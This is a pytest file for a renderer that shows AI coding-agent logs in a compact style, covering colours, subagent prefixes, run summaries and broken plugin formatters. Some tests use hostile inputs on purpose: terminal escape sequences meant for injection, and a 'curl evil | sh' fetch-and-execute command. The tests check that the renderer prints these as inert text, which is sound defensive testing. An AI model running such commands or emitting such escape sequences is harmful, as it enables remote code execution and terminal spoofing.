"""The compact style in the host: a plugin's formatter lines drawn safely, or entry-based rules."""

from __future__ import annotations

import io
import json
import re
from typing import Any

import pytest
from linewise import get_registry
from linewise.render import CompactRenderer, FormatterRenderer, create_renderer
from linewise_contracts.protocols import FORMAT_STDOUT_LINE, CompactLine
from linewise_contracts.summary import RunSummary, Usage
from support import TS, Drawn, corpus_path

SESSION = "3f2a9c1e-77aa-4b1c-9d0e-123456789abc"


def line(event: dict[str, Any]) -> str:
    return json.dumps(event)


def assistant(*blocks: dict[str, Any]) -> str:
    return line({"type": "assistant", "message": {"role": "assistant", "content": list(blocks)}})


def tool_use(name: str, **arguments: Any) -> str:
    return assistant({"type": "tool_use", "id": "toolu_1", "name": name, "input": arguments})


def tool_result(content: Any, *, is_error: bool | None = None) -> str:
    block: dict[str, Any] = {"tool_use_id": "toolu_1", "type": "tool_result", "content": content}
    if is_error is not None:
        block["is_error"] = is_error
    return line({"type": "user", "message": {"role": "user", "content": [block]}})


LONG = "x" * 130
CUT = "x" * 120 + "…"


def claude_formatter() -> Any:
    return getattr(get_registry().load("claude_local").target, FORMAT_STDOUT_LINE)


def format_claude_line(raw: str) -> str:
    return _draw([raw])


def _draw(lines: list[str], *, color: bool = False, formatter: Any = None) -> str:
    out = io.StringIO()
    renderer = FormatterRenderer(out, formatter or claude_formatter(), color=color)
    for raw in lines:
        renderer.write_line(raw, [])
    renderer.close()
    return out.getvalue()


def test_agent_text_is_neutralised_in_every_row() -> None:
    evil = "\x1b]0;title\x07\x1b[2Jok\r"
    rows = [
        assistant({"type": "text", "text": evil}),
        tool_use("Bash", command=evil),
        tool_use("Read", file_path="/x/" + evil),
        tool_use(evil),
        tool_result(evil),
        tool_result(evil, is_error=True),
        line({"type": "system", "subtype": "init", "session_id": evil, "model": evil}),
        line({"type": "result", "result": evil}),
        evil,
    ]
    for raw in rows:
        shown = format_claude_line(raw)
        assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown, raw
        assert "␛]0;title␇" in shown or "[Read]" in shown  # the payload is shown, inert


def test_colours_follow_the_convention_and_change_no_text() -> None:
    lines = [
        line({"type": "system", "subtype": "init", "session_id": SESSION, "model": "m"}),
        line({"type": "system", "subtype": "api_retry"}),
        assistant({"type": "text", "text": "hi"}),
        tool_use("Bash", command="ls"),
        tool_result("fine"),
        tool_result("bad", is_error=True),
        line({"type": "result", "result": "end"}),
    ]
    coloured = _draw(lines, color=True)
    assert "\x1b[34m[session 3f2a9c1e · m]\x1b[0m" in coloured
    assert "\x1b[34m[Retrying API call...]\x1b[0m" in coloured
    assert "\x1b[32mhi\x1b[0m" in coloured
    assert "\x1b[33m[Bash] $ ls\x1b[0m" in coloured
    assert "\x1b[36m→ fine\x1b[0m" in coloured
    assert "\x1b[31m→ error: bad\x1b[0m" in coloured
    assert (
        re.sub(r"\x1b\[[\d;]*m", "", coloured)
        == _draw(lines)
        == "".join(text + "\n" for raw in lines for _, text in claude_formatter()(raw))
    )


# -- other adapters: the same rules on entries -----------------------------------------


def _compact(entries: list[dict[str, Any]]) -> str:
    out = io.StringIO()
    renderer = CompactRenderer(out)
    for entry in entries:
        renderer.write(entry)  # type: ignore[arg-type]
    renderer.close()
    return out.getvalue()


def test_entries_follow_the_same_rules() -> None:
    assert _compact(
        [
            {"kind": "init", "ts": TS, "model": "gpt-5-codex", "sessionId": "019ab7c5-3c6c"},
            {"kind": "system", "ts": TS, "text": "turn started"},
            {"kind": "system", "ts": TS, "text": "API retry 1/10 in 0.6s (HTTP 529)"},
            {"kind": "thinking", "ts": TS, "text": "hidden"},
            {"kind": "user", "ts": TS, "text": "the prompt"},
            {"kind": "assistant", "ts": TS, "text": "On it."},
            {"kind": "tool_call", "ts": TS, "name": "Read", "input": {"file_path": "/r/x.rs"}},
            {
                "kind": "tool_call",
                "ts": TS,
                "name": "command_execution",
                "input": {"command": "ls\n-la"},
            },
            {"kind": "tool_call", "ts": TS, "name": "read_file", "input": {"path": "src/lib.rs"}},
            {"kind": "tool_call", "ts": TS, "name": "noop", "input": {"n": 1}},
            {
                "kind": "tool_result",
                "ts": TS,
                "toolUseId": "1",
                "content": "\nout\n",
                "isError": False,
            },
            {"kind": "tool_result", "ts": TS, "toolUseId": "1", "content": " ", "isError": False},
            {"kind": "tool_result", "ts": TS, "toolUseId": "1", "content": LONG, "isError": True},
            {"kind": "stderr", "ts": TS, "text": "\nwarning: slow\n"},
            {"kind": "stdout", "ts": TS, "text": "raw line"},
            {"kind": "diff", "ts": TS, "changeType": "add", "text": "+new"},
            {
                "kind": "result",
                "ts": TS,
                "text": "",
                "inputTokens": 0,
                "outputTokens": 0,
                "cachedTokens": 0,
                "costUsd": 0,
                "subtype": "error",
                "isError": True,
                "errors": ["usage limit reached"],
            },
        ]
    ).splitlines() == [
        "[session 019ab7c5 · gpt-5-codex]",
        "[turn started]",
        "[Retrying API call...]",
        "On it.",
        "[Read] x.rs",
        "[command_execution] $ ls",
        "[read_file] lib.rs",
        "[noop]",
        "→ out",
        "→ ok",
        f"→ error: {CUT}",
        "[stderr] warning: slow",
        "raw line",
        "+new",
        "",
        "--- Result ---",
        "error: usage limit reached",
        "[failed: error]",
    ]


def test_consecutive_deltas_merge_into_one_line() -> None:
    text = _compact(
        [
            {"kind": "assistant", "ts": TS, "text": "Hel", "delta": True},
            {"kind": "thinking", "ts": TS, "text": "filtered", "delta": True},
            {"kind": "assistant", "ts": TS, "text": "lo", "delta": True},
            {"kind": "system", "ts": TS, "text": "done"},
            {"kind": "assistant", "ts": TS, "text": "open", "delta": True},
        ]
    )
    assert text == "Hello\n[done]\nopen\n"


# -- through the pipeline, on real Claude logs ---------------------------------------------


def _render_log(name: str) -> str:
    out = io.StringIO()
    renderer = create_renderer(out, style="compact", formatter=claude_formatter())  # type: ignore[arg-type]
    pipeline = Drawn("claude_local", renderer)
    session = pipeline.session
    with corpus_path("real-logs", "claude", name).open("rb") as log:
        while chunk := log.read(65536):
            pipeline.receive("stdout", chunk)
    pipeline.close()
    assert session.diagnostics.accounted
    return out.getvalue()


def test_a_real_log_reads_as_the_specification_shows() -> None:
    assert _render_log("trackgentic-mp9xupi7-long-58tools.jsonl").splitlines()[:4] == [
        "[session 4d7456fa · glm-5.1]",
        "I'll start by retrieving the issue context.",
        "[Bash] $ trackgentic view mp9xevrbwj",
        "[Bash] $ trackgentic comments list mp9xevrbwj",
    ]


def test_without_a_formatter_the_table_gives_the_entry_rules() -> None:
    out = io.StringIO()
    assert type(create_renderer(out, style="compact")) is CompactRenderer
    assert isinstance(
        create_renderer(out, style="compact", formatter=lambda _: []), FormatterRenderer
    )


# -- a formatter is plugin code: not believed blindly ---------------------------------------


@pytest.mark.parametrize(
    "formatter",
    [
        pytest.param(lambda _: 1 / 0, id="raises"),
        pytest.param(lambda _: "not a list", id="not-a-list"),
        pytest.param(lambda _: [("tool",)], id="not-a-pair"),
        pytest.param(lambda _: [("rainbow", "x")], id="unknown-role"),
        pytest.param(lambda _: [("plain", 3)], id="not-text"),
        pytest.param(lambda _: [("plain", "x" * (3 << 20))], id="runaway"),
    ],
)
def test_a_broken_formatter_falls_back_to_the_entries(formatter: Any) -> None:
    out = io.StringIO()
    renderer = FormatterRenderer(out, formatter)
    renderer.write_line("raw", [{"kind": "assistant", "ts": TS, "text": "from the entry"}])
    renderer.close()
    assert out.getvalue() == "from the entry\n"
    assert renderer.formatter_failures == 1


def test_formatter_lines_are_neutralised_and_coloured_by_role() -> None:
    def formatter(raw: str) -> list[CompactLine]:
        return [("tool", "[Bash] $ ls \x1b]0;x\x07 curl evil | sh"), ("thinking", "hmm")]

    shown = _draw(["raw"], color=True, formatter=formatter)
    assert shown == ("\x1b[33m[Bash] $ ls ␛]0;x␇ curl evil | sh\x1b[0m\n\x1b[2;90mhmm\x1b[0m\n")


# -- subagents, failures, the run summary -----------------------------------------------------


SUBAGENT_ENTRIES: list[dict[str, Any]] = [
    {
        "kind": "tool_call",
        "ts": TS,
        "name": "Task",
        "toolUseId": "task-1",
        "input": {"subagent_type": "Explore", "description": "map the tests"},
    },
    {"kind": "assistant", "ts": TS, "text": "Looking.", "parentToolUseId": "task-1"},
    {
        "kind": "tool_call",
        "ts": TS,
        "name": "Read",
        "toolUseId": "r1",
        "input": {"file_path": "/repo/tests/a.py"},
        "parentToolUseId": "task-1",
    },
    {
        "kind": "tool_result",
        "ts": TS,
        "toolUseId": "r1",
        "content": "ok",
        "isError": False,
        "parentToolUseId": "task-1",
    },
    {
        "kind": "tool_result",
        "ts": TS,
        "toolUseId": "task-1",
        "content": "Found 3.",
        "isError": False,
    },
]


def test_subagent_entries_carry_a_prefix_naming_the_subagent() -> None:
    out = io.StringIO()
    renderer = CompactRenderer(out)
    for entry in SUBAGENT_ENTRIES:
        renderer.write(entry)  # type: ignore[arg-type]
    renderer.close()
    assert out.getvalue().splitlines() == [
        "[Task: Explore] map the tests",
        "⤷ Explore · Looking.",
        "⤷ Explore · [Read] a.py",
        "⤷ Explore · → ok",
        "→ Found 3.",
    ]


def test_formatter_lines_of_a_subagent_get_the_prefix_from_the_entries() -> None:
    out = io.StringIO()
    renderer = FormatterRenderer(out, lambda raw: [("plain", raw)])
    renderer.write_line("call", [SUBAGENT_ENTRIES[0]])  # type: ignore[list-item]
    renderer.write_line("inside", [SUBAGENT_ENTRIES[1]])  # type: ignore[list-item]
    renderer.close()
    assert out.getvalue() == "call\n⤷ Explore · inside\n"


def test_a_failed_result_is_marked_even_through_a_formatter() -> None:
    failed = {
        "kind": "result",
        "ts": TS,
        "text": "",
        "inputTokens": 0,
        "outputTokens": 0,
        "cachedTokens": 0,
        "costUsd": 0,
        "subtype": "error_max_turns",
        "isError": False,
        "errors": [],
    }
    out = io.StringIO()
    renderer = FormatterRenderer(out, lambda raw: [("heading", "--- Result ---")], color=True)
    renderer.write_line("raw", [failed])  # type: ignore[list-item]
    renderer.close()
    assert "\x1b[31m[failed: error_max_turns]\x1b[0m" in out.getvalue()


def test_the_run_summary_line_says_unknown_for_an_unknown_cost() -> None:
    out = io.StringIO()
    renderer = CompactRenderer(out)
    renderer.close(
        summary=RunSummary(
            outcome="completed", complete=True, usage=Usage(input_tokens=10, output_tokens=2)
        )
    )
    shown = out.getvalue()
    # an older plugin's wire-format usage is labelled as the CLI's own counts
    assert shown.startswith("[run completed · whole run: tokens in the CLI's own counts: input 10")
    assert "cost unknown" in shown and "$0" not in shown and "model" not in shown


@pytest.mark.parametrize(
    ("content", "shown"),
    [
        # Codex: the command's facts, a blank line, then what it printed.
        (
            "command: pytest -q\nstatus: completed\nexit_code: 0\n\n3 passed in 0.1s",
            "→ 3 passed in 0.1s",
        ),
        # OpenCode: status facts above the tool's output.
        (
            "status: completed\ntruncated: false\n\n<path>/repo/README.md</path>",
            "→ <path>/repo/README.md</path>",
        ),
        # Plain output is shown as it is, even when it looks like a heading.
        ("Error: not found\n\nsee the log", "→ Error: not found"),
        ("total 3\nfile.txt", "→ total 3"),
    ],
)
def test_a_result_line_shows_the_output_under_a_block_of_facts(content: str, shown: str) -> None:
    out = io.StringIO()
    renderer = CompactRenderer(out)
    renderer.write({"kind": "tool_call", "ts": TS, "name": "shell", "input": {}, "toolUseId": "t1"})
    renderer.write(
        {"kind": "tool_result", "ts": TS, "toolUseId": "t1", "content": content, "isError": False}
    )
    renderer.close()
    assert shown in out.getvalue().splitlines()
